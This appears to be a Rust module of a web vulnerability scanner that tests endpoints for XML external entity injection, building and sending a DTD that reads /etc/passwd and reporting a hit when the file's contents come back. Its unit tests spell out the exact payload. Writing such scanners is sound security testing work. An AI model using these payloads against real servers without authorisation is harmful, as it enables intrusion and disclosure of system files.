//! XML external entities: the endpoint's XML document gets a DTD declaring an external
//! entity on `/etc/passwd`, referenced from its first text element; a hit is the file's
//! content in the answer.

use super::traversal::file_proof;
use super::{report, send};
use crate::endpoint::{Endpoint, Point};
use crate::http::Response;
use crate::Scan;
use serde_json::json;
use vigil_engine::EngineError;

/// The document with an external entity on `file` declared and used in its first element
/// that has text (or appended to the root), or `None` when it is not XML.
pub fn with_entity(doc: &str, file: &str) -> Option<String> {
    let body_start = match doc.find("?>") {
        Some(i) if doc.trim_start().starts_with("<?xml") => i + 2,
        _ => 0,
    };
    let (decl, body) = doc.split_at(body_start);
    let root_start = body.find('<')?;
    let root_name: String = body[root_start + 1..]
        .chars()
        .take_while(|c| c.is_alphanumeric() || *c == '_' || *c == '-' || *c == ':')
        .collect();
    if root_name.is_empty() {
        return None;
    }
    let dtd = format!("<!DOCTYPE {root_name} [<!ENTITY vgl SYSTEM \"file://{file}\">]>");
    // First text node: between a '>' and a '<' with something in between.
    let bytes = body.as_bytes();
    let mut replaced = None;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'>' {
            let rest = &body[i + 1..];
            if let Some(end) = rest.find('<') {
                if end > 0 && !rest[..end].trim().is_empty() {
                    replaced = Some(format!("{}&vgl;{}", &body[..i + 1], &rest[end..]));
                    break;
                }
            }
        }
        i += 1;
    }
    let body = match replaced {
        Some(b) => b,
        None => {
            let close = format!("</{root_name}>");
            let at = body.rfind(&close)?;
            format!("{}&vgl;{}", &body[..at], &body[at..])
        }
    };
    Some(format!("{decl}{dtd}{body}"))
}

/// Test one point (the whole XML body).
pub async fn check(
    scan: &Scan<'_>,
    ep: &Endpoint,
    pt: &Point,
    base: &Response,
) -> Result<(), EngineError> {
    if file_proof(&base.text()).is_some() {
        return Ok(());
    }
    let Some(doc) = with_entity(&pt.original, "/etc/passwd") else {
        return Ok(());
    };
    let req = ep.inject(pt, &doc);
    let Some(resp) = send(scan, &req).await? else {
        return Ok(());
    };
    if let Some(content) = file_proof(&resp.text()) {
        let proof = json!({
            "payload": doc,
            "proof": format!("the external entity was resolved: the answer holds `{content}`"),
        });
        return report(scan, "xxe", ep, pt, &req, &resp, Some(&content), proof).await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entity_documents() {
        assert_eq!(
            with_entity("<?xml version=\"1.0\"?><order><name>vigil</name></order>", "/etc/passwd").unwrap(),
            "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY vgl SYSTEM \"file:///etc/passwd\">]><order><name>&vgl;</name></order>"
        );
        assert_eq!(
            with_entity("<a><b/></a>", "/x").unwrap(),
            "<!DOCTYPE a [<!ENTITY vgl SYSTEM \"file:///x\">]><a><b/>&vgl;</a>"
        );
        assert!(with_entity("not xml", "/x").is_none());
    }

    proptest::proptest! {
        #[test]
        fn never_panics(s in ".{0,200}") {
            let _ = with_entity(&s, "/x");
        }
    }
}
